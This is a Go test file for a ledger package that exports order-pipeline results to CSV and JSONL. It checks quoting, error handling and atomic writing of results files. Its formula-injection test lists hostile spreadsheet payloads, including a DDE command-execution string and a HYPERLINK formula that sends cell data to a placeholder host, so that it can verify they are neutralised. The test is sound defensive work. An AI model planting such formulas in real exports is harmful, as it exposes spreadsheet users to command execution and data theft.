package ledger

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/gocarina/gocsv"

	"convpipe/pipeline"
)

func TestResultOf(t *testing.T) {
	tests := []struct {
		name string
		e    pipeline.Entry
		want Result
	}{
		{"rejected", sample("O-1", pipeline.StateRejected), Result{
			Key: "12345/O-1", Order: "O-1", Source: "s3://bucket/a b/orders.csv:2;orders.parquet:9", State: "rejected",
			HTTPStatus: "400", Messages: "ItemPrice1: Invalid numeric format (value: fifty); second", SubmissionID: "A-123",
		}},
		{"pending, nothing else", pipeline.Entry{Key: pipeline.Key{EventType: "1", OrderID: "O"}, State: pipeline.StatePending},
			Result{Key: "1/O", Order: "O", State: "pending"}},
		{"multi-line message", pipeline.Entry{Key: pipeline.Key{EventType: "1", OrderID: "O"}, State: pipeline.StateFailed,
			Messages: []pipeline.Message{{Text: "connection reset\r\nretrying"}}},
			Result{Key: "1/O", Order: "O", State: "failed", Messages: "connection reset retrying"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := ResultOf(tt.e); got != tt.want {
				t.Errorf("ResultOf() =\n%+v\nwant\n%+v", got, tt.want)
			}
		})
	}
}

// exportLedger returns a ledger holding n entries of run "r1" and one of
// run "r2", with the texts a results file must keep intact.
func exportLedger(t *testing.T, b backend, n int) Store {
	l := b.temp(t)
	es := make([]pipeline.Entry, n)
	for i := range es {
		e := sample(fmt.Sprintf("O-%04d", i), pipeline.StateRejected)
		e.RunID = "r1"
		e.Messages = []pipeline.Message{{Field: "Note", Value: `a "quoted", comma`, Text: "too long"}}
		es[i] = e
	}
	if err := l.PutAll(t.Context(), es); err != nil {
		t.Fatal(err)
	}
	mustPut(t, l, pipeline.Entry{Key: pipeline.Key{EventType: "9", OrderID: "X"}, State: pipeline.StateAccepted, RunID: "r2", HTTPStatus: 200})
	return l
}

func TestWriteCSV(t *testing.T) { forEachBackend(t, testWriteCSV) }

func testWriteCSV(t *testing.T, b backend) {
	header := "key,order,source,state,http_status,messages,submission_id\n"
	for _, n := range []int{0, 1, resultChunk - 1, resultChunk, resultChunk + 1, 2*resultChunk + 3} {
		t.Run(fmt.Sprint(n), func(t *testing.T) {
			l := exportLedger(t, b, n)
			var buf bytes.Buffer
			if err := WriteCSV(t.Context(), &buf, l, pipeline.Filter{RunID: "r1"}); err != nil {
				t.Fatal(err)
			}
			if !strings.HasPrefix(buf.String(), header) {
				t.Fatalf("file starts %q, want the header %q", buf.String()[:min(80, buf.Len())], header)
			}
			// Read back as people's tools would: plain CSV, then gocsv.
			recs, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if len(recs) != n+1 {
				t.Fatalf("%d records, want %d and the header", len(recs)-1, n)
			}
			var got []Result
			if err := gocsv.UnmarshalBytes(buf.Bytes(), &got); err != nil {
				t.Fatal(err)
			}
			for i, r := range got {
				want := Result{Key: fmt.Sprintf("12345/O-%04d", i), Order: fmt.Sprintf("O-%04d", i),
					Source: "s3://bucket/a b/orders.csv:2;orders.parquet:9", State: "rejected", HTTPStatus: "400",
					Messages: `Note: too long (value: a "quoted", comma)`, SubmissionID: "A-123"}
				if r != want {
					t.Fatalf("line %d = %+v, want %+v", i, r, want)
				}
			}
		})
	}
}

func TestCSVWriterError(t *testing.T) {
	w := NewCSVWriter(failWriter{})
	var err error
	for i := 0; i < 2*resultChunk && err == nil; i++ {
		err = w.Write(sample(fmt.Sprint(i), pipeline.StateAccepted))
	}
	if err == nil {
		err = w.Flush()
	}
	if !errors.Is(err, errDiskFull) {
		t.Fatalf("error = %v, want the writer's", err)
	}
	if err := w.Write(sample("x", pipeline.StateAccepted)); !errors.Is(err, errDiskFull) {
		t.Errorf("Write after a failure = %v, want the first error again", err)
	}
}

var errDiskFull = errors.New("no space left on device")

type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, errDiskFull }

// TestCSVWriterNoGoroutines writes a results file through gocsv and
// checks that no goroutine is left behind, on success or on failure.
func TestCSVWriterNoGoroutines(t *testing.T) {
	before := runtime.NumGoroutine()
	for range 20 {
		w := NewCSVWriter(&bytes.Buffer{})
		for i := range resultChunk + 5 {
			w.Write(sample(fmt.Sprint(i), pipeline.StateAccepted))
		}
		w.Flush()
		f := NewCSVWriter(failWriter{})
		for i := range resultChunk + 5 {
			f.Write(sample(fmt.Sprint(i), pipeline.StateAccepted))
		}
		f.Flush()
	}
	deadline := time.Now().Add(time.Second)
	for runtime.NumGoroutine() > before && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
	}
	if after := runtime.NumGoroutine(); after > before {
		t.Errorf("%d goroutines before, %d after", before, after)
	}
}

func TestWriteJSONL(t *testing.T) { forEachBackend(t, testWriteJSONL) }

func testWriteJSONL(t *testing.T, b backend) {
	l := exportLedger(t, b, 3)
	var buf bytes.Buffer
	if err := WriteJSONL(t.Context(), &buf, l, pipeline.Filter{}); err != nil {
		t.Fatal(err)
	}
	var want []pipeline.Entry
	l.Entries(t.Context(), pipeline.Filter{}, func(e pipeline.Entry) error { want = append(want, e); return nil })
	lines := strings.Split(strings.TrimSuffix(buf.String(), "\n"), "\n")
	if len(lines) != len(want) {
		t.Fatalf("%d lines, want %d", len(lines), len(want))
	}
	for i, line := range lines {
		var e pipeline.Entry
		if err := json.Unmarshal([]byte(line), &e); err != nil {
			t.Fatalf("line %d: %v", i+1, err)
		}
		if !reflect.DeepEqual(e, want[i]) {
			t.Errorf("line %d = %+v, want %+v", i+1, e, want[i])
		}
	}
	if !strings.Contains(lines[0], `"value":"a \"quoted\", comma"`) || strings.Contains(buf.String(), `\u003c`) {
		t.Errorf("line 1 = %s", lines[0])
	}
	buf.Reset()
	if err := WriteJSONL(t.Context(), &buf, l, pipeline.Filter{State: pipeline.StateChanged}); err != nil || buf.Len() != 0 {
		t.Errorf("empty selection: %q, %v", buf.String(), err)
	}
}

func TestWriteResultsFile(t *testing.T) { forEachBackend(t, testWriteResultsFile) }

func testWriteResultsFile(t *testing.T, b backend) {
	l := exportLedger(t, b, 2)
	path := ResultsPath(filepath.Join(t.TempDir(), "ledger.db"), "2026-03-01T02:00:00Z/x")
	if want := ".db.results-2026-03-01T02_00_00Z_x.csv"; !strings.HasSuffix(path, want) {
		t.Errorf("ResultsPath = %s, want it to end in %s", path, want)
	}
	if err := WriteResultsFile(t.Context(), l, path, "r1"); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if n := strings.Count(string(data), "\n"); n != 3 || !strings.Contains(string(data), "12345/O-0001") || strings.Contains(string(data), "9/X") {
		t.Errorf("results file:\n%s", data)
	}
	files, _ := filepath.Glob(filepath.Join(filepath.Dir(path), "*"))
	if len(files) != 1 {
		t.Errorf("files left: %v", files)
	}
	// A failed write leaves the old file and no temporary one.
	l.Close()
	if err := WriteResultsFile(t.Context(), l, path, "r1"); !errors.Is(err, ErrClosed) {
		t.Errorf("WriteResultsFile on a closed ledger = %v", err)
	}
	if b2, _ := os.ReadFile(path); !bytes.Equal(data, b2) {
		t.Error("a failed write changed the results file")
	}
	if files, _ := filepath.Glob(filepath.Join(filepath.Dir(path), "*")); len(files) != 1 {
		t.Errorf("files left after a failure: %v", files)
	}
}

// TestCSVFormulaInjection: cells a spreadsheet would evaluate as a formula
// (OrderIds, messages, sources from a shop's export) are written with a
// leading "'", in the results file and in the export alike; other cells
// and the JSON lines are written as they are.
func TestCSVFormulaInjection(t *testing.T) { forEachBackend(t, testCSVFormulaInjection) }

func testCSVFormulaInjection(t *testing.T, b backend) {
	hostile := []string{`=cmd|' /C calc'!A0`, "+1", "@SUM(A1)", `=HYPERLINK("http://x.example/?d="&A1,"click")`, "-2+3", "\tx", "\rx"}
	benign := []string{"O-1", "a=b", "1+2", " =space first", "'quoted"}
	// The rule, as OWASP states it, applied to the fields of want.
	quote := func(s string) string {
		if s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) {
			return "'" + s
		}
		return s
	}
	l := b.temp(t)
	want := map[string]Result{} // by the order cell
	stored := []string{}        // the OrderIds as stored
	for i, id := range append(append([]string{}, hostile...), benign...) {
		e := pipeline.Entry{Key: pipeline.Key{EventType: "7", OrderID: id}, State: pipeline.StateRejected, RunID: "r1",
			HTTPStatus: 400, Messages: []pipeline.Message{{Text: id}}, Refs: []pipeline.Ref{{Object: id, Line: int64(i + 1)}}}
		mustPut(t, l, e)
		r := ResultOf(e)
		r.Order, r.Messages, r.Source = quote(r.Order), quote(r.Messages), quote(r.Source)
		if i < len(hostile) && (r.Order[0] != '\'' || r.Source[0] != '\'') {
			t.Fatalf("the test's rule leaves %q alone", id)
		}
		want[r.Order] = r
		stored = append(stored, id)
	}
	mustPut(t, l, pipeline.Entry{Key: pipeline.Key{EventType: "=1+1", OrderID: "-k"}, State: pipeline.StateSkipped, RunID: "r1",
		SubmissionID: "@sub"})
	want["'-k"] = Result{Key: "'=1+1/-k", Order: "'-k", State: "skipped", SubmissionID: "'@sub"}
	stored = append(stored, "-k")

	var exported bytes.Buffer
	if err := WriteCSV(t.Context(), &exported, l, pipeline.Filter{}); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "results.csv")
	if err := WriteResultsFile(t.Context(), l, path, "r1"); err != nil {
		t.Fatal(err)
	}
	results, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	for name, b := range map[string][]byte{"ledger export": exported.Bytes(), "results file": results} {
		recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if len(recs) != len(want)+1 {
			t.Fatalf("%s: %d lines, want %d and the header", name, len(recs)-1, len(want))
		}
		for _, rec := range recs[1:] {
			for _, cell := range rec {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: cell %q would be evaluated by a spreadsheet", name, cell)
				}
			}
			w, ok := want[rec[1]]
			got := Result{Key: rec[0], Order: rec[1], Source: rec[2], State: rec[3], HTTPStatus: rec[4], Messages: rec[5], SubmissionID: rec[6]}
			if !ok || got != w {
				t.Errorf("%s: line %q,\nwant %+v", name, rec, w)
			}
		}
	}
	checkJSONLExact(t, l, stored)
}

// checkJSONLExact checks that the JSON lines of l hold each of the
// OrderIds as stored, and each entry's message, unescaped.
func checkJSONLExact(t *testing.T, l Store, orderIDs []string) {
	t.Helper()
	var jl bytes.Buffer
	if err := WriteJSONL(t.Context(), &jl, l, pipeline.Filter{}); err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for line := range strings.SplitSeq(strings.TrimSpace(jl.String()), "\n") {
		var e pipeline.Entry
		if err := json.Unmarshal([]byte(line), &e); err != nil {
			t.Fatal(err)
		}
		seen[e.Key.OrderID] = true
		if len(e.Messages) > 0 && e.Messages[0].Text != e.Key.OrderID {
			t.Errorf("jsonl message %q, want %q", e.Messages[0].Text, e.Key.OrderID)
		}
	}
	for _, id := range orderIDs {
		if !seen[id] {
			t.Errorf("jsonl lacks the OrderId %q as stored", id)
		}
	}
}
